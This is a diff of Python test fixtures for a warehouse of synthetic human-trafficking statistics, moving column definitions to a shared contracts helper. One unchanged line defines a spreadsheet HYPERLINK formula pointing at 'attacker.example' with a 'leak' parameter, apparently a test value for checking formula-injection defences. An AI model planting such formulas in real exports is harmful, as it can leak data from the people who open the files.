@@ -26,37 +26,15 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from ctip.harmonise.observations import OBSERVATION_COLUMNS, QUARANTINE_COLUMNS
+from ctip.contracts import columns
 from ctip.region import dim_country
 from ctip.schema import KEY_COLUMNS
-from ctip.stage.submission import SUBMISSION_COLUMNS
-from ctip.warehouse import tables as contracts_module
 from ctip.warehouse.build import build_marts, dim_indicator, write_tables
-from ctip.warehouse.precedence import HISTORY_COLUMNS
 
 COUNTRIES = ["JAM", "TTO", "BRB", "GUY", "BHS", "DOM"]
 YEARS = [2021, 2022]
 HYPERLINK = '=HYPERLINK("http://attacker.example/?leak","Open")'
 SEXES, AGES, FORMS = ("female", "male"), ("child", "adult"), ("sexual", "labour", "other")
-ESTIMATE_COLUMNS = [
-    "country_iso3", "year", "indicator", "sex", "age_group", "exploitation", "citizenship",
-    "estimate", "median", "lower_95", "upper_95", "nature", "method", "note",
-]
-REGIONAL_COLUMNS = [
-    "year", "indicator", "sex", "exploitation", "estimate", "median", "lower_95", "upper_95", "nature",
-    "imputed_share", "n_countries_reporting", "population_share_reporting", "publishable", "reason",
-]
-ESTIMATE_CONTRACTS = {
-    "mart_estimates": {
-        "group": "estimates", "public": True, "description": "Estimates (synthetic contract for tests).",
-        "key": list(KEY_COLUMNS), "columns": {c: f"{c}." for c in ESTIMATE_COLUMNS},
-    },
-    "mart_regional_estimates": {
-        "group": "estimates", "public": True, "description": "Regional estimates (synthetic contract for tests).",
-        "key": ["year", "indicator", "sex", "exploitation"], "columns": {c: f"{c}." for c in REGIONAL_COLUMNS},
-    },
-}
-
 
 def _row(country, year, indicator, sex, age, form, cit, value, flag=None, sheet="Victims", cell="B2"):
     return {
@@ -91,7 +69,7 @@ def synthetic_fact(seed: int = 2024) -> pd.DataFrame:
         for sex, age in itertools.product((*SEXES, "total"), (*AGES, "total")):
             value = sum(v for (s, a), v in convicted.items() if sex in (s, "total") and age in (a, "total"))
             rows.append(_row(country, year, "persons_convicted", sex, age, "total", "total", value, sheet="Justice"))
-    fact = pd.DataFrame(rows, columns=OBSERVATION_COLUMNS)
+    fact = pd.DataFrame(rows, columns=columns("fact_observation"))
     key = fact.set_index(list(KEY_COLUMNS)).index
 
     def at(country, year, indicator, sex="total", age="total", form="total", cit="total"):
@@ -170,7 +148,7 @@ def synthetic_estimates(fact: pd.DataFrame, members: list[str], population: pd.D
     est["upper_95"] = np.where(est["nature"] == "C", est["estimate"], est["estimate"] * 2 + 1)
     est["note"] = np.where(est["nature"] == "C", "reported by the country", "expected number, not prevalence")
     est["median"] = est["estimate"]
-    est = est[ESTIMATE_COLUMNS]
+    est = est.reindex(columns=columns("mart_estimates"))  # a column the model adds later stays empty here
     reg = est.groupby(["year", "indicator", "sex", "exploitation"], as_index=False).agg(
         estimate=("estimate", "sum"), n_countries_reporting=("nature", lambda s: int((s == "C").sum())))
     reg["lower_95"] = reg["estimate"] * 0.8
@@ -181,7 +159,7 @@ def synthetic_estimates(fact: pd.DataFrame, members: list[str], population: pd.D
     reg["population_share_reporting"] = 0.6
     reg["publishable"] = True
     reg["reason"] = ""
-    return est, reg[REGIONAL_COLUMNS]
+    return est, reg.reindex(columns=columns("mart_regional_estimates"))
 
 
 def build_synthetic_warehouse(path: Path, with_estimates: bool = False) -> dict[str, pd.DataFrame]:
@@ -190,10 +168,10 @@ def build_synthetic_warehouse(path: Path, with_estimates: bool = False) -> dict[
     members = countries["country_iso3"].tolist()
     population = synthetic_population(members)
     tables = {
-        "submissions": pd.DataFrame(columns=[*SUBMISSION_COLUMNS, "source_kind"]).astype("string"),
+        "submissions": pd.DataFrame(columns=columns("submissions")).astype("string"),
         "fact_observation": fact,
-        "fact_observation_history": pd.DataFrame(columns=HISTORY_COLUMNS).astype("string"),
-        "quarantine": pd.DataFrame(columns=QUARANTINE_COLUMNS).astype("string"),
+        "fact_observation_history": pd.DataFrame(columns=columns("fact_observation_history")).astype("string"),
+        "quarantine": pd.DataFrame(columns=columns("quarantine")).astype("string"),
         "dim_country": countries,
         "dim_indicator": dim_indicator(),
         "ref_population": population,
@@ -218,16 +196,7 @@ def synthetic_warehouse(tmp_path) -> Path:
 
 
 @pytest.fixture
-def estimate_contracts(monkeypatch):
-    """Contracts for the estimate tables, where schemas/tables.yaml does not (yet) hold them."""
-    real = contracts_module.table_contracts()
-    merged = {**real, **{k: v for k, v in ESTIMATE_CONTRACTS.items() if k not in real}}
-    monkeypatch.setattr(contracts_module, "table_contracts", lambda: merged)
-    return merged
-
-
-@pytest.fixture
-def synthetic_warehouse_with_estimates(tmp_path, estimate_contracts) -> Path:
+def synthetic_warehouse_with_estimates(tmp_path) -> Path:
     path = tmp_path / "warehouse.duckdb"
     build_synthetic_warehouse(path, with_estimates=True)
     return path
@@ -282,9 +251,5 @@ def synthetic_exports_with_estimates(tmp_path_factory) -> tuple[Path, Path]:
     root = tmp_path_factory.mktemp("synthetic_estimates")
     warehouse = root / "warehouse.duckdb"
     build_synthetic_warehouse(warehouse, with_estimates=True)
-    real = contracts_module.table_contracts()
-    merged = {**real, **{k: v for k, v in ESTIMATE_CONTRACTS.items() if k not in real}}
-    with pytest.MonkeyPatch.context() as mp:
-        mp.setattr(contracts_module, "table_contracts", lambda: merged)
-        write_exports(warehouse, root / "exports")
+    write_exports(warehouse, root / "exports")
     return warehouse, root / "exports"
